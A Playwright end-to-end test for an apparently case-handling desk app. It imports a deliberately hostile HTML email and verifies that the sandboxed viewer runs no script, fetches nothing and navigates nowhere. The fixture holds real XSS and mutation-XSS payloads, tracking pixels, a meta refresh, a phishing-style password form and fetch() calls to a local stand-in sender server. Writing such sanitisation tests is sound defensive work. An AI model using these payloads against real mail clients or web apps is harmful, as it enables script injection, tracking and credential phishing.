// A mail that was written to hurt: opened as it was sent, it runs nothing, loads nothing, and leads nowhere.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expect, test, type Desk } from './desk.ts'

/** A server of the sender: each request to it would tell that somebody opened the mail. */
async function senders(): Promise<{ address: string; asked: string[]; close: () => void }> {
  const asked: string[] = []
  const server = createServer((request, reply) => {
    asked.push(request.url ?? '')
    reply.end()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    close: () => server.close(),
  }
}

const hostile = (at: string): string => `
<html><head><base href="${at}/"><meta http-equiv="refresh" content="0;url=${at}/refresh">
<link rel="stylesheet" href="${at}/style.css"><link rel="prefetch" href="${at}/prefetch">
<style>@import url("${at}/import.css"); body { background: url(${at}/background.png) }</style></head>
<body onload="parent.hacked = 1" background="${at}/body.png">
<p style="color: #800000">Give the money back</p>
<p><a href="${at}/link" ping="${at}/ping" target="_top">our bank</a><a href="javascript:parent.hacked=7">here</a></p>
<p style="background-image: url('${at}/p.png')">one</p><p style="position: fixed; top: 0">two</p>
<script>parent.postMessage('hacked', '*'); fetch('${at}/script')</script>
<img src="${at}/pixel.png" onerror="parent.hacked = 2"><img src=x onerror="fetch('${at}/onerror')">
<img srcset="${at}/srcset.png 2x"><picture><source srcset="${at}/source.png"><img src="data:image/png;base64,iVBORw0KGgo="></picture>
<svg onload="parent.hacked = 3"><use href="${at}/sprite.svg#a"/><image href="${at}/svg.png"/><script>parent.hacked = 4</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hacked=5&gt;">
<form action="${at}/form"><input name="password" autofocus onfocus="parent.hacked = 6"><button>Sign in</button></form>
<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">
<video src="${at}/video" poster="${at}/poster" autoplay></video><audio src="${at}/audio" autoplay></audio>
<noscript><p title="</noscript><img src=x onerror=parent.hacked=8>"></noscript>
</body></html>`

/** Brings the mail as a case through the API of the desk, in the name of whoever is signed in. */
async function mailCase(page: Page, desk: Desk, html: string): Promise<string> {
  const api = new URL('/api/v1', desk.link).href
  const eml = `From: Oleg <o@c.example>\r\nTo: shop@a.example\r\nSubject: Refund\r\nDate: Mon, 16 Mar 2026 11:02:00 +0300\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}`
  const files = { name: 'm1.eml', mimeType: 'message/rfc822', buffer: Buffer.from(eml) }
  const brought = await page.request.post(`${api}/imports`, { multipart: { files } })
  const { id } = (await brought.json()) as { id: string }
  const answers = {
    names: { 'shop@a.example': 'us', Oleg: 'client' },
    client: { type: 'company' },
    jurisdiction: 'RU',
    lang: 'ru',
  }
  await page.request.post(`${api}/imports/${id}/answers`, { data: answers })
  const accepted = await page.request.post(`${api}/imports/${id}/acceptance`, { data: {} })
  return ((await accepted.json()) as { case: string }).case
}

test('a hostile mail, opened as it was sent, runs nothing and loads nothing', async ({ page, desk }) => {
  const sender = await senders()
  try {
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.goto(desk.link)
    await page.getByRole('heading', { level: 1 }).waitFor()
    const id = await mailCase(page, desk, hostile(sender.address))
    await page.goto(new URL(`/cases/${id}`, desk.link).href)
    await page.evaluate(() =>
      addEventListener('message', () => Object.assign(globalThis, { hacked: 'message' })),
    )
    await page.getByRole('button', { name: /показать письмо|show the mail/ }).click()
    const frame = page.locator('iframe.mail-as-sent')
    await expect(frame).toHaveAttribute('sandbox', '')
    const inside = page.frameLocator('iframe.mail-as-sent')
    await expect(inside.getByText('Give the money back')).toBeVisible()
    await expect(inside.getByText('Give the money back')).toHaveCSS('color', 'rgb(128, 0, 0)')
    await expect(inside.getByText(`our bank [${sender.address}/link]`)).toBeVisible()
    const left = inside.locator(
      'a, script, form, input, button, iframe, object, embed, video, audio, svg, math, style, link, base',
    )
    await expect(left).toHaveCount(0)
    await expect(
      inside.locator('img[src^="http"], img[srcset], [onerror], [onload], [onfocus], [background]'),
    ).toHaveCount(0)
    await inside.getByText('our bank').click()
    // A way to the desk and back: a click that led anywhere would have begun to by then.
    expect(await page.evaluate(async () => (await fetch('/api/v1/me')).status)).toBe(200)
    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
    expect(page.url()).toContain(`/cases/${id}`)
    expect(dialogs).toEqual([])
    expect(sender.asked).toEqual([])
  } finally {
    sender.close()
  }
})
